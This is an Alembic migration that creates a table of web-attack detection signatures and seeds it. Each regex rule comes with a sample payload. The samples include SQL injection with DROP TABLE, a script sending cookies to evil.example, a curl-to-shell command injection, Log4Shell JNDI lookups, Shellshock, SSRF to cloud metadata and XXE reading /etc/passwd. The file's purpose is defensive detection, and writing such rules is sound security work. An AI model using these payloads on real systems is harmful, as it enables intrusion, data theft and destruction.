"""add detection rules with the first signatures

Revision: b7d2056ce318
Revises: 4c8e1f0a9d27
Created: 2026-02-26 11:30:57+00:00

Patterns are Python regular expressions; those that begin with (?x) ignore white space and hold
comments. They match the decoded request: path, query, headers and body.

Where a column keeps no time zone, its times are in UTC.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal

import sqlalchemy as sa
from alembic import op
from sqlalchemy.dialects import mysql

revision: str = "b7d2056ce318"
down_revision: str | tuple[str, ...] | None = "4c8e1f0a9d27"
branch_labels: str | tuple[str, ...] | None = None
depends_on: str | tuple[str, ...] | None = None

# MySQL's own type would drop microseconds.
TIMESTAMP = sa.DateTime(timezone=True).with_variant(mysql.DATETIME(fsp=6), "mysql", "mariadb")

INDIA = timezone(timedelta(hours=5, minutes=30))
FIRST_SET = datetime(2025, 9, 1, tzinfo=UTC)
SECOND_SET = datetime(2025, 12, 10, 18, 4, 59, 250000, tzinfo=UTC)
BENGALURU_SET = datetime(2026, 1, 15, 9, 30, tzinfo=INDIA)


def rule(  # noqa: PLR0913  # one parameter for each column
    code: str,
    title: str,
    pattern: str,
    *,
    tags: list[str],
    weight: str,
    introduced_at: datetime = FIRST_SET,
    sample: bytes | None = None,
) -> dict[str, object]:
    """Return the row of one signature; its category is the first part of its code."""
    return {
        "code": code,
        "category": code.rpartition("-")[0].lower(),
        "title": title,
        "pattern": pattern,
        "tags": tags,
        "weight": Decimal(weight),
        "introduced_at": introduced_at,
        "sample_payload": sample,
    }


RULES = [
    rule(
        "SQLI-001",
        "SQL injection: tautology, as in ' OR '1'='1",
        r"""(?i)['"]\s*(?:or|and)\s+(['"]?)[\w%]+\1\s*(?:=|<>|like)\s*\1[\w%]+""",
        tags=["sqli", "owasp:a03", "quote ' and \""],
        weight="0.950",
        sample=b"id=1' OR '1'='1' --",
    ),
    rule(
        "SQLI-002",
        "SQL injection: UNION SELECT, also with comments for blanks",
        r"(?i)union(?:\s|/\*.*?\*/|\+|%20)+(?:all(?:\s|/\*.*?\*/)+)?select\b",
        tags=["sqli", "owasp:a03"],
        weight="0.970",
        sample=b"id=-1/**/UNION/**/SELECT/**/usename,passwd/**/FROM/**/pg_shadow;--",
    ),
    rule(
        "SQLI-003",
        "SQL injection: the rest of the statement commented out",
        r"""(?i)['"\)]\s*;?\s*(?:--[\s+]|#|/\*(?!\*/))""",
        tags=["sqli", "comment:--", "comment:/*"],
        weight="0.600",
        sample=b"admin'/*",
    ),
    rule(
        "SQLI-004",
        "SQL injection: stacked statement",
        r"(?i);\s*(?:drop|alter|truncate|insert|update|delete|exec(?:ute)?)\s+\w+",
        tags=["sqli", "owasp:a03"],
        weight="0.990",
        sample=b"1; DROP TABLE threat_events; --",
    ),
    rule(
        "SQLI-005",
        "SQL injection: time-based, blind",
        r"(?i)\b(?:pg_sleep|sleep|benchmark)\s*\(\s*\d|waitfor\s+delay\s*'\d+:\d+:\d+'",
        tags=["sqli", "blind"],
        weight="0.980",
        sample=b"1'; WAITFOR DELAY '0:0:5'--",
    ),
    rule(
        "SQLI-006",
        "SQL injection: PostgreSQL dollar quotes, $$ or $tag$",
        r"\$(?:[A-Za-z_]\w*)?\$.*?\$(?:[A-Za-z_]\w*)?\$|::(?:text|regclass|int)\b",
        tags=["sqli", "postgresql", "$$", "::"],
        weight="0.820",
        introduced_at=SECOND_SET,
        sample=b"1 OR $$a$$=$$a$$::text",
    ),
    rule(
        "SQLI-007",
        "SQL injection: LIKE with a leading wildcard, %25 or %",
        r"(?i)\blike\s+'(?:%25|%)+[^']*'|\bescape\s+'\\'",
        tags=["sqli", "100%", "%s", "%(name)s"],
        weight="0.455",
        sample=b"name=' or name like '%admin%' escape '\\",
    ),
    rule(
        "XSS-001",
        "XSS: <script> element",
        r"(?i)<\s*script\b[^>]*>(?:.*?)<\s*/\s*script\s*>",
        tags=["xss", "owasp:a03"],
        weight="0.960",
        sample=b"<script>fetch('//evil.example/?c='+document.cookie)</script>",
    ),
    rule(
        "XSS-002",
        "XSS: event handler in an attribute",
        r"""(?i)\bon(?:error|load|click|mouseover|focus)\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+)""",
        tags=["xss"],
        weight="0.880",
        sample=b"<img src=x onerror=\"alert('xss & more')\">",
    ),
    rule(
        "XSS-003",
        "XSS: javascript: and data: URLs, with white space inside",
        r"""(?ix)
	# browsers skip tabs and line breaks within the scheme
	(?: j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t | v\s*b\s*s\s*c\s*r\s*i\s*p\s*t ) \s* :
	|	data \s* : \s* text/html \s* ;	# data:text/html;base64,...
""",
        tags=["xss", "url:javascript:"],
        weight="0.910",
        introduced_at=SECOND_SET,
        sample=b'<a href="java\tscript\n:alert(1)">',
    ),
    rule(
        "XSS-004",
        "XSS: HTML entities that spell a tag, &lt; &#60; &#x3c;",
        r"(?i)&(?:lt|#0*60|#x0*3c);?\s*(?:script|svg|iframe|img)\b",
        tags=["xss", "&lt;", "&amp;&amp;"],
        weight="0.640",
        sample=b"&lt;svg/onload=alert&#40;1&#41;&gt;",
    ),
    rule(
        "XSS-005",
        "XSS: template expression, {{…}} or ${…}",
        r"\{\{.*?(?:constructor|__proto__|prototype).*?\}\}|\$\{[^}]*(?:alert|eval)\(",
        tags=["xss", "ssti"],
        weight="0.790",
        sample=b"{{constructor.constructor('alert(1)')()}}",
    ),
    rule(
        "TRAVERSAL-001",
        "Path traversal: ../ and ..\\, also encoded once or twice",
        r"(?i)(?:\.\.|%2e%2e|%252e%252e)(?:/|\\|%2f|%5c|%252f|%255c)",
        tags=["traversal", "windows:\\", "C:\\"],
        weight="0.930",
        sample=b"GET /static/..%5c..%5c..%5cwindows\\win.ini",
    ),
    rule(
        "TRAVERSAL-002",
        "Path traversal: files that nobody asks for",
        r"(?i)/(?:etc/(?:passwd|shadow)|proc/self/environ)|\b[c-z]:\\(?:windows|boot\.ini)\b",
        tags=["traversal", "lfi"],
        weight="0.940",
        sample=b"file=....//....//etc/passwd",
    ),
    rule(
        "TRAVERSAL-003",
        "Path traversal: a NUL byte cuts off the extension",
        r"%00|\\x00|\\0|\x5cu0000",
        tags=["traversal", "nul"],
        weight="0.870",
        sample=b"file=../../etc/passwd\x00.png",
    ),
    rule(
        "TRAVERSAL-004",
        "Path traversal: overlong UTF-8, %c0%af for /",
        r"(?i)%c0%a[ef]|%c1%9c|%e0%80%af",
        tags=["traversal", "utf-8", "cve:2000-0884"],
        weight="0.900",
        # These bytes are no text in any encoding that PostgreSQL checks.
        sample=b"GET /scripts/..\xc0\xaf..\xc1\x9c../winnt/system32/cmd.exe\xff",
    ),
    rule(
        "JNDI-001",
        "Log4Shell: ${jndi:ldap://…}, CVE-2021-44228",
        r"(?i)\$\{\s*jndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|https?)\s*:",
        tags=["log4shell", "cve:2021-44228"],
        weight="0.999",
        sample=b"User-Agent: ${jndi:ldap://198.51.100.7:1389/a}",
    ),
    rule(
        "JNDI-002",
        "Log4Shell: nested lookups, ${${lower:j}ndi:…} and ${::-j}",
        r"(?i)\$\{(?:\$\{(?:(?:lower|upper|env|sys|date):[^}]*|::-[^}]*)\}|[jndi])+",
        tags=["log4shell", "obfuscated", "${::-j}"],
        weight="0.990",
        introduced_at=SECOND_SET,
        sample=b"${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://198.51.100.7/a}",
    ),
    rule(
        "HEADER-001",
        "Header splitting: an encoded CR LF before a header",
        r"(?i)(?:%0d%0a|%0a|\\r\\n|\r\n)\s*(?:set-cookie|location|content-\w+)\s*:",
        tags=["crlf", "header:set-cookie"],
        weight="0.920",
        sample=b"/?next=x\r\nSet-Cookie: sid=1; Path=/\r\n\r\n<html>",
    ),
    rule(
        "HEADER-002",
        "Request smuggling: both lengths, or a length with a tab",
        "(?is)content-length\\s*:[^\r\n]*\r?\n.*?transfer-encoding[\t ]*:[\t ]*chunked",
        tags=["smuggling", "cl.te"],
        weight="0.890",
        introduced_at=SECOND_SET,
        sample=b"Content-Length: 6\r\nTransfer-Encoding:\tchunked\r\n\r\n0\r\n\r\nG",
    ),
    rule(
        "HEADER-003",
        "Shellshock: a function in a header, CVE-2014-6271",
        r"\(\s*\)\s*\{\s*(?:[^}]*;)?\s*:?\s*;?\s*\}\s*;",
        tags=["shellshock", "cve:2014-6271"],
        weight="0.985",
        sample=b"() { :; }; /bin/bash -c 'cat /etc/passwd'",
    ),
    rule(
        "COMMAND-001",
        "Command injection: separators before a well-known program",
        r"(?:;|\|\|?|&&?|`|\$\()\s*(?:cat|curl|wget|nc|bash|sh|id|whoami|powershell)\b",
        tags=["rce", "&&", "||", ";"],
        weight="0.965",
        sample=b"host=127.0.0.1;curl http://evil.example/x.sh|sh && id",
    ),
    rule(
        "COMMAND-002",
        "Command injection: words broken up by quotes or backslashes",
        r"""(?i)\b(?:c['"\\]+a['"\\]*t|w['"\\]+g['"\\]*e['"\\]*t|i['"\\]+d)\b""",
        tags=["rce", "obfuscated"],
        weight="0.770",
        introduced_at=BENGALURU_SET,
        sample=b"c'a't /etc/pa\\sswd; w\\get x",
    ),
    rule(
        "SSRF-001",
        "SSRF: cloud metadata and addresses of the own network",
        r"(?i)https?://(?:169\.254\.169\.254|metadata\.google\.internal|\[::1?\]|127\.\d+)",
        tags=["ssrf", "ipv6:[::1]"],
        weight="0.955",
        introduced_at=BENGALURU_SET,
        sample=b"url=http://[::ffff:169.254.169.254]:80/latest/meta-data/",
    ),
    rule(
        "XXE-001",
        "XXE: external entity, or one that grows",
        r"""(?is)<!(?:doctype|entity)[^>]*\b(?:system|public)\b\s*["'][^"']+["']|(?:&\w+;){10,}""",
        tags=["xxe", "<!--", "-->"],
        weight="0.945",
        sample=(b'<!DOCTYPE x [\n\t<!ENTITY e SYSTEM "file:///etc/passwd"> <!-- &e; -->\n]>\n<x>&e;</x>'),
    ),
    rule(
        "NOSQL-001",
        "NoSQL injection: operators in JSON or in brackets",
        r"""(?i)["']?\$(?:ne|gt|lt|where|regex|exists)["']?\s*:|\[\$(?:ne|gt|regex)\]=""",
        tags=["nosqli", "mongodb", '{"$ne": null}'],
        weight="0.860",
        sample=b'{"user": "admin", "password": {"$ne": null}}',
    ),
    rule(
        "LDAP-001",
        "LDAP injection: a filter that is always true",
        r"\*\)\s*\(\s*(?:\||&|!)|\)\s*\(\s*(?:uid|cn|objectclass)\s*=\s*\*",
        tags=["ldapi", "*)(&"],
        weight="0.810",
        sample=b"user=*)(uid=*))(|(uid=*&password=x",
    ),
    rule(
        "SCANNER-001",
        "Scanner: user agents that say so",
        r"""(?ix)
	^ (?:	sqlmap/ \d+ [.\d]*	# sqlmap/1.7.2#stable (https://sqlmap.org)
	|	nikto | Nmap\ Scripting\ Engine ; 	# 'Mozilla/5.0 (compatible; Nmap ...)'
	|	masscan/ | zgrab/ | wpscan )
""",
        tags=["scanner", "user-agent"],
        weight="0.300",
        sample=b"sqlmap/1.7.2#stable (https://sqlmap.org)",
    ),
    rule(
        "UNICODE-001",
        "Look-alikes: full-width quotes and slashes, ＇ ＂ ／ ＼",
        "[\uff07\uff02\uff0f\uff3c\u2215\u2044\u02b9\u2018\u2019]",
        tags=["unicode", "évasion", "／"],
        weight="0.520",
        introduced_at=BENGALURU_SET,
        sample="id=1＇ OR ＇1＇=＇1".encode(),
    ),
    rule(
        "SPAM-001",
        "Spam: runs of emoji, as in 💰💰💰 or 🔥🔥🔥",
        "(?:[\U0001f300-\U0001faff]\ufe0f?){3,}|💯% free|\\bfree\\s+(?:money|crypto)\\b",
        tags=["spam", "💰", "👩‍💻"],
        weight="0.125",
        introduced_at=BENGALURU_SET,
        sample="🔥🔥🔥 100% FREE crypto 💰 — click: https://spam.example/?a=1&b=2".encode(),
    ),
    rule(
        "DESERIALIZE-001",
        "Deserialisation: Java, PHP and Python objects in a request",
        r"""rO0AB[A-Za-z0-9+/=]{8,}|\b[OC]:\d+:"[\w\\]+":\d+:\{|\bc(?:os|posix)\nsystem\n""",
        tags=["rce", "java", "php", "pickle"],
        weight="0.975",
        introduced_at=SECOND_SET,
        # Text that looks like PostgreSQL's own notation for bytes: \x41 is four characters here.
        sample=b'\\x41\\101O:8:"Example\\Gadget":1:{s:3:"cmd";s:2:"id";}',
    ),
]


def in_utc(row: dict[str, object]) -> dict[str, object]:
    """Return a rule's row for a database that keeps no time zone."""
    introduced_at = row["introduced_at"]
    assert isinstance(introduced_at, datetime)  # noqa: S101  # for the type checker
    return {**row, "introduced_at": introduced_at.astimezone(UTC).replace(tzinfo=None)}


def upgrade() -> None:
    detection_rules = op.create_table(
        "detection_rules",
        sa.Column("id", sa.Integer(), sa.Identity(always=True), nullable=False),
        sa.Column("code", sa.String(length=32), nullable=False),
        sa.Column("category", sa.String(length=32), nullable=False),
        sa.Column("title", sa.String(length=120), nullable=False),
        sa.Column("pattern", sa.Text(), nullable=False),
        sa.Column("tags", sa.JSON(), nullable=False),
        sa.Column("weight", sa.Numeric(precision=6, scale=3), nullable=False),
        sa.Column("introduced_at", TIMESTAMP, nullable=False),
        sa.Column("sample_payload", sa.LargeBinary(), nullable=True),
        sa.Column("enabled", sa.Boolean(), server_default=sa.text("true"), nullable=False),
        sa.PrimaryKeyConstraint("id", name=op.f("pk_detection_rules")),
        sa.UniqueConstraint("code", name=op.f("uq_detection_rules_code")),
    )
    keeps_time_zones = op.get_context().dialect.name == "postgresql"
    op.bulk_insert(detection_rules, RULES if keeps_time_zones else [in_utc(row) for row in RULES])


def downgrade() -> None:
    op.drop_table("detection_rules")
